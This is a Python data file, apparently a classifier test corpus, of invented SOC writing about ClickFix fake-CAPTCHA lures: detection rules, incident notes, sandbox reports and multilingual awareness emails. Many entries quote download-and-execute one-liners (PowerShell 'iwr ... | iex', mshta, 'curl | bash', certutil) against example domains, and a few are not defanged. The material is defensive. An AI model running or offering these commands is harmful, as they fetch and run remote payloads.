"""fpover21 texts: security teams' writing that quotes lures (detection queries in KQL, SPL, Sigma,
YARA, EQL; incident notes; awareness mails; sandbox reports), with and without defanging, in
several languages (own words; the quoted lure lines are invented, on reserved names)."""

from fp21_corp import each

SENTINEL = "https://portal.azure.com/#view/Microsoft_Azure_Security_Insights/MainMenuBlade/~/Logs"
DEFENDER = "https://security.microsoft.com/v2/advanced-hunting"
SPLUNK = "https://splunk.soc.northwind.example/en-US/app/search/search"
SIGMA_REPO = "https://github.com/northwind-soc/detections/blob/main/sigma/clickfix_run_box.yml"
SOC_WIKI = "https://northwind.atlassian.net/wiki/spaces/SOC/pages/55102/IR-2025-118+ClickFix"
OUTLOOK = "https://outlook.office.com/mail/inbox"
TEAMS = "https://teams.microsoft.com/v2/"
SLACK = "https://app.slack.com/client/T04ABCD/C05SOC"

DETECTIONS = [
    *each(
        DEFENDER,
        "other",
        'DeviceProcessEvents\n| where Timestamp > ago(7d)\n| where InitiatingProcessFileName =~ "explorer.exe"\n| where FileName in~ ("powershell.exe", "mshta.exe", "cmd.exe")\n| where ProcessCommandLine has_any ("iex", "irm", "iwr", "mshta http", "-enc")\n| project Timestamp, DeviceName, AccountName, ProcessCommandLine',
        'DeviceRegistryEvents\n| where RegistryKey has @"\\Explorer\\RunMRU"\n| where RegistryValueData has_any ("powershell", "mshta", "curl", "http")\n| summarize count() by DeviceName, RegistryValueData',
        'DeviceNetworkEvents\n| where InitiatingProcessFileName =~ "mshta.exe"\n| where RemoteUrl !endswith ".microsoft.com"\n| project Timestamp, DeviceName, RemoteUrl, InitiatingProcessCommandLine',
        'let lolbins = dynamic(["certutil.exe","bitsadmin.exe","regsvr32.exe","rundll32.exe","msiexec.exe"]);\nDeviceProcessEvents\n| where FileName in~ (lolbins) and ProcessCommandLine matches regex @"https?://"\n| extend Host = extract(@"https?://([^/\\s]+)", 1, ProcessCommandLine)',
    ),
    *each(
        SENTINEL,
        "other",
        'SecurityEvent\n| where EventID == 4688\n| where CommandLine contains "-w hidden" and CommandLine contains "DownloadString"\n| extend Decoded = base64_decode_tostring(extract(@"-e[nc]*\\s+([A-Za-z0-9+/=]+)", 1, CommandLine))',
        'OfficeActivity\n| where Operation == "New-InboxRule"\n| where Parameters has_any ("DeleteMessage", "MarkAsRead", "RSS Feeds")',
    ),
    *each(
        SPLUNK,
        "other",
        'index=edr sourcetype=sysmon EventCode=1 ParentImage="*\\\\explorer.exe" (Image="*\\\\powershell.exe" OR Image="*\\\\mshta.exe")\n| where match(CommandLine, "(?i)(iwr|irm|invoke-webrequest).*\\|\\s*iex")\n| stats count by host, user, CommandLine',
        'index=proxy url="*/verify*" OR url="*captcha*" http_method=GET\n| lookup domain_age domain OUTPUT age_days\n| where age_days < 30\n| table _time, src_ip, url, age_days',
        'index=wineventlog source="WinEventLog:Microsoft-Windows-PowerShell/Operational" EventCode=4104\n| search ScriptBlockText="*FromBase64String*" ScriptBlockText="*Invoke-Expression*"',
    ),
    *each(
        SIGMA_REPO,
        "other",
        "title: Command Pasted Into Run Dialog Spawns Script Host\nid: 8f3a1c2d-9e7b-4a6c-8d0e-1f2a3b4c5d6e\nstatus: experimental\nlogsource:\n  category: process_creation\n  product: windows\ndetection:\n  selection:\n    ParentImage|endswith: '\\explorer.exe'\n    Image|endswith:\n      - '\\powershell.exe'\n      - '\\mshta.exe'\n    CommandLine|contains:\n      - 'http'\n      - '| iex'\n  condition: selection\nlevel: high",
        "title: Curl Piped To Shell From Browser Copy\nlogsource:\n  product: macos\n  category: process_creation\ndetection:\n  sel:\n    ParentImage|endswith: '/Terminal'\n    CommandLine|re: 'curl .*\\| *(ba|z)?sh'\n  filter_known:\n    CommandLine|contains:\n      - 'sh.rustup.rs'\n      - 'raw.githubusercontent.com/Homebrew'\n  condition: sel and not filter_known",
    ),
    *each(
        "https://github.com/northwind-soc/detections/blob/main/yara/clickfix_html.yar",
        "other",
        'rule ClickFix_Fake_Captcha_Page\n{\n  meta:\n    author = "Northwind SOC"\n    description = "HTML that copies a command and tells the user to press Win+R"\n  strings:\n    $c1 = "navigator.clipboard.writeText" ascii\n    $r1 = "Windows + R" ascii nocase\n    $r2 = "CTRL + V" ascii nocase\n    $p1 = "powershell" ascii nocase\n  condition:\n    $c1 and 1 of ($r*) and $p1\n}',
        'rule Lumma_Stager_PS1 {\n  strings:\n    $a = "[Convert]::FromBase64String" nocase\n    $b = "Invoke-Expression" nocase\n    $c = /https?:\\/\\/[a-z0-9\\-]{4,30}\\.(shop|top|xyz)\\// nocase\n  condition:\n    all of them and filesize < 20KB\n}',
    ),
    *each(
        "https://github.com/northwind-soc/detections/blob/main/eql/run_mru.eql",
        "other",
        'registry where registry.path : "HKEY_USERS\\\\*\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Explorer\\\\RunMRU\\\\*" and\n  registry.data.strings : ("*powershell*", "*mshta*", "*curl*", "*http*")',
    ),
]

INCIDENT_NOTES = [
    *each(
        SOC_WIKI,
        "other",
        'Timeline (UTC)\n09:42 user opened hxxps://booking-confirm-7731[.]example/verify from a fake Booking.com mail\n09:43 page copied: powershell -w h -c "iwr hxxps://cdn-check[.]example/c.ps1 | iex"\n09:43 user pressed Win+R, Ctrl+V, Enter (RunMRU confirms)\n09:44 Defender blocked c.ps1 (Trojan:PowerShell/ClickFix.B)\nContainment: host isolated 09:51, password reset 10:05.',
        "IOCs (defanged)\n- cdn-check[.]example\n- 185.220.101[.]14\n- SHA256 8f3a1c2d9e7b4a6c8d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e\nCommand seen in RunMRU: mshta hxxps://cdn-check[.]example/v.hta",
        'Root cause: the user followed a "verify you are human" page and pasted a command into the Run dialog. No admin rights, so persistence failed. Lessons learned: block mshta.exe for standard users via WDAC; add Run-box pastes to awareness training.',
    ),
    *each(
        SLACK,
        "other",
        'heads up: seeing a wave of fake "Cloudflare verification" pages today. payload is `mshta hxxps://verify-cf[.]example/c.hta` — blocked at the proxy already, but if anyone reports a Win+R prompt please route to #soc-ir',
        "FYI from the SOC: the lure today tells people to open Terminal on macOS and paste `curl -s hxxp://mac-fix[.]example/i.sh | bash`. The domain is sinkholed. Please don't test it from your laptop.",
    ),
    *each(
        TEAMS,
        "other",
        'Incident 2025-0417 update: the phishing mail asked finance staff to call "Microsoft Support" at a number in the mail. Nobody called. We added the sender domain to the block list. No further action needed from you.',
        'Zur Info vom CERT: Die aktuelle Phishing-Welle nutzt gefälschte Captcha-Seiten. Angezeigt wird: „Drücken Sie Windows+R, dann Strg+V und Enter“. Der kopierte Befehl lautet powershell -w h -c "irm hxxps://check-de[.]example/a | iex". Bitte nichts davon ausführen; Meldungen an cert@northwind.example.',
    ),
    *each(
        "https://app.any.run/tasks/8f3a1c2d-9e7b-4a6c-8d0e-1f2a3b4c5d6e",
        "other",
        "Process tree\nexplorer.exe (PID 4120)\n └─ powershell.exe -w hidden -c \"$u='hxxps://stage2[.]example/p';iex(iwr $u -UseBasicParsing)\" (PID 6644)\n     └─ rundll32.exe C:\\Users\\admin\\AppData\\Local\\Temp\\x.dll,Start (PID 7012)\nVerdict: Malicious activity (Lumma stealer)",
    ),
    *each(
        "https://www.virustotal.com/gui/file/8f3a1c2d9e7b4a6c8d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e/behavior",
        "other",
        'Processes created\n"C:\\Windows\\System32\\mshta.exe" hxxps://cdn-check[.]example/v.hta\n"C:\\Windows\\System32\\cmd.exe" /c certutil -urlcache -split -f hxxp://203.0.113[.]7/a.exe %TEMP%\\a.exe\nFiles dropped: %TEMP%\\a.exe',
    ),
    *each(
        "https://www.hybrid-analysis.com/sample/8f3a1c2d9e7b4a6c8d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e",
        "other",
        "Indicators: Suspicious — Spawns PowerShell with hidden window; Contacts domain stage2[.]example; Reads clipboard contents. MITRE ATT&CK: T1204.004 (User Execution: Malicious Copy and Paste), T1059.001 (PowerShell).",
    ),
]

AWARENESS = [
    *each(
        OUTLOOK,
        "other",
        'Subject: Security tip of the month: fake "I\'m not a robot" pages\n\nSome websites now show a fake CAPTCHA that asks you to press Windows + R, paste something and press Enter. A real CAPTCHA never asks you to run anything on your computer. If you see this, close the tab and tell the IT Service Desk (ext. 4400).',
        "Objet : Attention aux fausses pages de vérification\n\nDes sites frauduleux affichent « Je ne suis pas un robot » puis demandent d'appuyer sur Windows + R et de coller une commande. Ne le faites jamais : aucune vérification légitime ne vous demandera d'exécuter une commande. Signalez-le au support informatique (poste 4400).",
        'Asunto: Cuidado con los captchas falsos\n\nAlgunas páginas piden pulsar Windows + R, pegar un texto y pulsar Intro para "verificar que eres humano". Es una estafa: un captcha real nunca te pide ejecutar nada. Cierra la página y avisa a seguridad@northwind.example.',
        'Oggetto: Attenzione ai falsi CAPTCHA\n\nAlcuni siti chiedono di premere Windows + R, incollare un comando e premere Invio per "completare la verifica". Non fatelo mai. Chiudete la pagina e contattate l\'help desk al numero interno 4400.',
        "Onderwerp: Let op nep-captcha's\n\nSommige websites vragen je op Windows + R te drukken, iets te plakken en op Enter te drukken. Dat is oplichting: een echte captcha laat je nooit iets uitvoeren. Sluit de pagina en meld het bij de servicedesk.",
        'Assunto: Cuidado com falsas verificações\n\nAlguns sites pedem para carregar em Windows + R, colar um comando e carregar em Enter para "provar que não é um robô". Nunca o faça. Feche a página e contacte o apoio informático (extensão 4400).',
        "件名：偽の「私はロボットではありません」画面にご注意ください\n\n最近、Windowsキー＋Rを押してコピーした内容を貼り付け、Enterを押すよう指示する偽の認証画面が確認されています。本物の認証でコマンドの実行を求められることはありません。表示された場合はページを閉じ、情報システム部（内線4400）へご連絡ください。",
        "Temat: Uwaga na fałszywe CAPTCHA\n\nNiektóre strony każą nacisnąć Windows + R, wkleić polecenie i nacisnąć Enter. To oszustwo. Prawdziwa weryfikacja nigdy nie wymaga uruchamiania poleceń. Zamknij stronę i zgłoś to do działu IT.",
        'Subject: Never paste commands from a website into Terminal\n\nMac users: some fake "update" and "fix your disk" pages ask you to open Terminal and paste a line that starts with curl or osascript. Apple will never ask you to do this. If in doubt, forward the page address to security@northwind.example.',
        'Subject: Phishing test results for Q3\n\n14% of staff clicked the test link (down from 22%). The most successful lure was a fake "Microsoft 365 password expires today" mail. Remember: check the sender, hover over links, and report with the Phish Alert button.',
        'Subject: Callback phishing — don\'t call the number in the mail\n\nWe are seeing fake invoices "from Geek Squad" and "from PayPal" saying you were charged $399 and asking you to call a phone number to cancel. The number leads to scammers who will ask you to install remote-access software. Never call numbers from unexpected invoices; use the number on the company\'s official website.',
        "Betreff: Sicherheitshinweis – Fernwartung nur über die IT\n\nBetrüger rufen an und geben sich als Microsoft- oder Bank-Support aus. Sie bitten darum, AnyDesk oder TeamViewer zu installieren und einen Code zu nennen. Unsere IT meldet sich nie unaufgefordert und nutzt ausschließlich das Ticketsystem.",
    ),
    *each(
        "https://northwind.sharepoint.com/sites/Security/SitePages/Report-phishing.aspx",
        "other",
        'How to spot a ClickFix lure: 1) a page says something is broken (camera, document, captcha); 2) it offers a "Fix" or "Verify" button; 3) it tells you to press Win+R or open Terminal and paste. Real websites never do step 3.',
        'Example of what a fake verification page copies to your clipboard (do not run):\n\ncmd /c start /min powershell -w h -c "iex(irm hxxps://verify-now[.]example)"\n\nNotice the hidden window (-w h) and the download piped to iex.',
    ),
]

# quoting the lure line as it is (no defanging): still a warning when it reaches a shell, but
# clean in the writing tools and chat it is pasted into
QUOTED_RAW = [
    *each(
        SOC_WIKI,
        "other",
        'Observed command (copied from the lure page for the record):\npowershell -w h -c "iwr https://cdn-check.example/c.ps1 | iex"\nThe domain was registered 2 days before the campaign.',
    ),
    *each(
        OUTLOOK,
        "other",
        "Hi team, a user forwarded a page that put this in their clipboard: mshta https://verify-cf.example/c.hta — I've blocked the domain on the proxy and opened INC0041872. Nobody else seems affected.",
    ),
]

# more detection content and write-ups, in the places analysts keep them
MORE_DETECTIONS = [
    *each(
        "https://github.com/northwind-soc/detections/blob/main/kql/mshta_from_explorer.kql",
        "other",
        '// ClickFix: mshta launched by explorer.exe (Run dialog) with a URL argument\nDeviceProcessEvents\n| where InitiatingProcessFileName =~ "explorer.exe" and FileName =~ "mshta.exe"\n| where ProcessCommandLine matches regex @"(?i)https?://"\n| join kind=leftouter (DeviceRegistryEvents | where RegistryKey has "RunMRU") on DeviceId',
        '// macOS: osascript spawned by Terminal right after a paste\nDeviceProcessEvents\n| where InitiatingProcessFileName in~ ("Terminal", "iTerm2")\n| where FileName =~ "osascript" and ProcessCommandLine has "display dialog"',
    ),
    *each(
        "https://www.elastic.co/guide/en/security/current/prebuilt-rules.html",
        "other",
        'process where host.os.type == "windows" and event.type == "start" and\n  process.parent.name : "explorer.exe" and\n  process.name : ("powershell.exe", "cmd.exe", "mshta.exe") and\n  process.command_line : ("*http*", "*iex*", "*-enc*")',
    ),
    *each(
        "https://docs.panther.com/detections/rules/python",
        "other",
        "def rule(event):\n    cmd = event.deep_get('process', 'command_line', default='').lower()\n    return 'mshta' in cmd and ('http://' in cmd or 'https://' in cmd)\n\ndef title(event):\n    return f\"mshta fetching a remote HTA on {event.get('hostname')}\"",
    ),
    *each(
        "https://github.com/northwind-soc/detections/blob/main/suricata/clickfix.rules",
        "other",
        'alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"NW-SOC Possible ClickFix stager fetch (mshta UA)"; flow:established,to_server; http.user_agent; content:"MSIE 7.0"; content:"Windows NT"; http.uri; content:".hta"; endswith; classtype:trojan-activity; sid:9100042; rev:2;)',
    ),
    *each(
        "https://crowdstrike.example-tenant.falcon.example/investigate/events",
        "other",
        "event_simpleName=ProcessRollup2 ParentBaseFileName=explorer.exe FileName=powershell.exe\n| CommandLine=/(irm|iwr|Invoke-WebRequest).*(\\||;)\\s*(iex|Invoke-Expression)/i\n| groupBy([ComputerName, UserName, CommandLine])",
    ),
    *each(
        "https://northwind.atlassian.net/wiki/spaces/SOC/pages/60233/Hunting+notes",
        "other",
        'Hunting idea: RunMRU values ending in \\1 are what the user typed or pasted into Win+R. Pull them with:\nreg query "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU"\nand look for anything longer than 60 characters or containing http.',
        "Velociraptor artifact to collect: Windows.Registry.RunMRU. Filter on Data =~ '(mshta|powershell|curl|conhost).*' and review hosts with hits in the last 14 days.",
    ),
]

MORE_NOTES = [
    *each(
        "https://northwind.atlassian.net/wiki/spaces/SOC/pages/61004/IR-2025-131",
        "other",
        'Summary: one macOS user pasted a fake "Homebrew" install line from a sponsored search result. Copied text: /bin/bash -c "$(curl -fsSL hxxps://brew-sh[.]example/install.sh)". The script asked for the login password through osascript and exfiltrated the Keychain. Actions: device wiped, credentials rotated, search-ad domain reported.',
        "Lessons: the ad's display URL said brew.sh but the landing host was brew-sh[.]example. Teach developers to copy install lines only from the project's own site (brew.sh itself).",
    ),
    *each(
        "https://northwind.sharepoint.com/sites/SOC/Shared%20Documents/Forms/AllItems.aspx",
        "other",
        "Rapport d'incident 2025-07 (résumé)\nVecteur : fausse page CAPTCHA (« Vérifiez que vous êtes humain »).\nCommande collée dans Exécuter : mshta hxxps://captcha-fr[.]example/v\nImpact : aucun, bloqué par l'EDR.\nMesures : domaine bloqué, sensibilisation des équipes comptables.",
        'Informe de incidente (resumen): el usuario pegó en la ventana Ejecutar el texto copiado por una página falsa de verificación: powershell -w h -c "iex(irm hxxps://verif-es[.]example/x)". El EDR detuvo el proceso. Dominio bloqueado en el proxy.',
        "Incidentrapport (samenvatting): een medewerker plakte via Win+R een regel van een nep-captchapagina (mshta hxxps://check-nl[.]example/p). Defender blokkeerde het. Domein geblokkeerd, wachtwoord gereset.",
    ),
    *each(
        "https://teams.microsoft.com/v2/",
        "other",
        'SOC-Übergabe Nachtschicht: 2 Meldungen wegen gefälschter Captcha-Seiten (beide blockiert), 1 Anruf eines falschen "Microsoft-Supports" bei der Buchhaltung (Nummer +49 30 555 0199 gemeldet), sonst ruhig.',
        "夜間引き継ぎ：偽CAPTCHAページによる報告2件（いずれもEDRで遮断）。コピーされていたコマンドは mshta hxxps://verify-jp[.]example/c です。ドメインはプロキシで遮断済み。",
    ),
    *each(
        "https://app.slack.com/client/T04ABCD/C05SOC",
        "other",
        'new lure variant: the page tells you to press Win+X, pick "Terminal (Admin)" and paste. payload still `iwr hxxps://upd-win[.]example/s|iex`. updated the awareness page.',
        "reminder: when you share IOCs in this channel, defang them (hxxps, [.]) so nobody clicks by accident and our chat bot doesn't unfurl them",
    ),
    *each(
        "https://www.joesandbox.com/analysis/1498222/0/html",
        "other",
        'Signature: Suspicious PowerShell command line found\nSource: Process created: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe powershell -w h -c "iwr hxxps://stage[.]example/a.ps1|iex"\nClassification: malicious',
    ),
]

MORE_AWARENESS = [
    *each(
        "https://outlook.office.com/mail/inbox",
        "other",
        'Assunto: Golpe do "suporte técnico"\n\nSe aparecer uma janela dizendo que o seu computador está bloqueado com um número para ligar, não ligue. A Microsoft não mostra números de telefone em mensagens de erro. Feche o navegador e contacte o suporte interno.',
        'Konu: Sahte CAPTCHA uyarısı\n\nBazı siteler "robot olmadığınızı doğrulamak" için Windows + R tuşlarına basıp bir komut yapıştırmanızı istiyor. Bunu asla yapmayın; gerçek doğrulamalar bilgisayarınızda komut çalıştırmanızı istemez. Bilgi İşlem\'e bildirin.',
        "Тема: Осторожно, поддельные проверки «Я не робот»\n\nМошеннические сайты просят нажать Win+R, вставить команду и нажать Enter. Настоящая проверка никогда не просит запускать команды. Закройте страницу и сообщите в службу поддержки.",
        "主题：警惕虚假的“人机验证”页面\n\n一些网站会要求您按 Win+R、粘贴内容并按回车来“完成验证”。这是诈骗，真正的验证从不要求您运行命令。请关闭页面并联系IT服务台。",
        "제목: 가짜 CAPTCHA 주의\n\n일부 사이트가 Windows + R을 누르고 복사된 내용을 붙여넣은 뒤 Enter를 누르라고 요구합니다. 실제 인증은 절대 명령 실행을 요구하지 않습니다. 페이지를 닫고 IT 헬프데스크에 알려 주세요.",
        'الموضوع: احذر صفحات التحقق المزيفة\n\nتطلب بعض المواقع الضغط على Windows + R ولصق أمر ثم الضغط على Enter "للتحقق من أنك لست روبوتًا". لا تفعل ذلك أبدًا، وأبلغ فريق الدعم الفني.',
        'Subject: Gift card requests from "the CEO"\n\nIf you get a text or mail from a manager asking you to buy gift cards urgently and send the codes, it is a scam. Call the person on the number in the staff directory, not the one in the message.',
        "Subject: New: Report Phish button in Outlook\n\nFrom Monday you can report suspicious mail with the Report button in the ribbon. Reported mail goes to the SOC (soc@northwind.example); you'll get a reply within one working day.",
    ),
    *each(
        "https://northwind.sharepoint.com/sites/Security/SitePages/Fake-support-calls.aspx",
        "other",
        "Real vs fake support: our Service Desk number is +44 20 7946 0400 (also on the back of your badge). We will never ask you to install AnyDesk, read out an MFA code, or approve a sign-in you didn't start. Anyone who does is not us.",
    ),
]

# detection engineering in other query languages and tickets
THIRD_SEC = [
    *each(
        "https://chronicle.security.google.com/search",
        "other",
        'rule clickfix_run_dialog {\n  meta:\n    author = "northwind-soc"\n  events:\n    $e.metadata.event_type = "PROCESS_LAUNCH"\n    $e.principal.process.file.full_path = /explorer\\.exe$/ nocase\n    $e.target.process.command_line = /(mshta|powershell).*(https?:|iex)/ nocase\n  condition:\n    $e\n}',
    ),
    *each(
        "https://northwind.atlassian.net/jira/software/projects/SOC/issues/SOC-4412",
        "other",
        "SOC-4412 | Fake captcha on partner site | P2 | Contained\nAffected: WS-0231 (jdoe)\nVector: Run dialog paste\nDefanged URL: hxxps://partner-verify[.]example/c\nNext: ask partner to clean their WordPress plugin",
    ),
    *each(
        "https://github.com/northwind-soc/detections/blob/main/osquery/run_mru.sql",
        "other",
        "SELECT datetime(mtime, 'unixepoch') AS modified, name, data\nFROM registry\nWHERE key LIKE 'HKEY_USERS\\%\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU'\n  AND (data LIKE '%powershell%' OR data LIKE '%mshta%' OR data LIKE '%http%');",
    ),
    *each(
        "https://northwind.atlassian.net/wiki/spaces/SOC/pages/70011/Playbook+ClickFix",
        "other",
        "Playbook step 3 — scope: search the EDR for the same command line on other hosts. Step 4 — contain: isolate hosts that ran it; block the domain at the proxy and DNS. Step 5 — eradicate: remove scheduled tasks and Run keys the stager added; reset the user's passwords and revoke sessions.",
    ),
    *each(
        "https://outlook.office.com/mail/inbox",
        "other",
        'Threat brief (TLP:GREEN): this week\'s ClickFix pages impersonate Google Meet ("microphone error, press Fix") and copy a PowerShell one-liner that pulls Lumma from a .shop domain. Our EDR blocks the stager; no action needed beyond awareness.',
        "Hi all, quick summary of yesterday's tabletop: we walked through a fake IT support call, a user installing a remote tool, and lateral movement. Gaps: no alert on new remote-tool installs, unclear escalation after hours. Owners assigned in the notes.",
        "Betreff: Ergebnis Phishing-Simulation November\n\nKlickrate 9 % (Vormonat 13 %), Melderate 41 %. Die erfolgreichste Vorlage war eine gefälschte Paketbenachrichtigung. Danke an alle, die gemeldet haben!",
    ),
]
